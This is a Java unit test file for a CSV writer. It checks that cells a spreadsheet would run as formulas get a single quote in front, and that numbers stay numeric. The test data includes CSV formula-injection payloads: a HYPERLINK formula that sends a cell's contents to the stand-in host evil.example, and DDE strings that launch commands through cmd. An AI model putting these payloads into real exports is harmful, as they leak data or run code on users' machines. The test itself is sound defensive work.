package nl.goedgesprek.shared;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.nio.charset.StandardCharsets;
import java.util.Arrays;
import java.util.List;

import org.apache.commons.csv.CSVFormat;
import org.apache.commons.csv.CSVParser;
import org.apache.commons.csv.CSVRecord;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.ValueSource;
import org.junit.jupiter.api.Test;

import static org.assertj.core.api.Assertions.assertThat;

/**
 * The one CSV writer, attacked with the cells OWASP lists: text a spreadsheet would run as a formula
 * comes out quoted with a single quote in front, numbers stay numbers.
 */
class SpreadsheetCsvTests {

	@ParameterizedTest
	@ValueSource(strings = { "=HYPERLINK(\"http://evil.example/?\"&A1;\"klik\")", "+31 6 1234", "-2+3+cmd|' /C calc'!A0",
			"@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1", "\n=1+1", "  =1+1", "\uFF1D1+1", "-3" })
	void textThatLooksLikeAFormulaIsWrittenAsQuotedTextWithASingleQuoteInFront(String attack) throws IOException {
		String csv = csv(List.of(List.of("Team", attack)));

		assertThat(csv).startsWith("\uFEFF\"Team\";\"'");
		assertThat(parse(csv).get(0).get(1)).isEqualTo("'" + attack);
	}

	@Test
	void numbersStayNumbersEvenWhenNegative() throws IOException {
		String csv = csv(List.of(Arrays.asList("Saldo", -3, 4L, 2.5, null)));

		assertThat(csv).isEqualTo("\uFEFF\"Saldo\";-3;4;2.5;\r\n");
	}

	@Test
	void ordinaryTextIsLeftAsItIsAndDelimitersInsideACellStayInside() throws IOException {
		String csv = csv(List.of(List.of("Klantcontact", "Wonen; Zorg", "12%", "José \"Jos\" Müller", "a-b")));

		assertThat(parse(csv).get(0).values()).containsExactly("Klantcontact", "Wonen; Zorg", "12%",
				"José \"Jos\" Müller", "a-b");
	}

	@Test
	void aCellWithAFormulaAfterTheDelimiterCannotEscapeItsQuotes() throws IOException {
		String csv = csv(List.of(List.of("naam\";=1+1;\"")));

		CSVRecord record = parse(csv).get(0);
		assertThat(record.size()).isEqualTo(1);
		assertThat(record.get(0)).isEqualTo("naam\";=1+1;\"");
	}

	private static String csv(List<? extends List<?>> rows) throws IOException {
		ByteArrayOutputStream out = new ByteArrayOutputStream();
		SpreadsheetCsv.write(rows, out);
		return out.toString(StandardCharsets.UTF_8);
	}

	private static List<CSVRecord> parse(String csv) throws IOException {
		try (CSVParser parser = CSVParser.parse(csv.substring(1), CSVFormat.DEFAULT.builder().setDelimiter(';').get())) {
			return parser.getRecords();
		}
	}

}
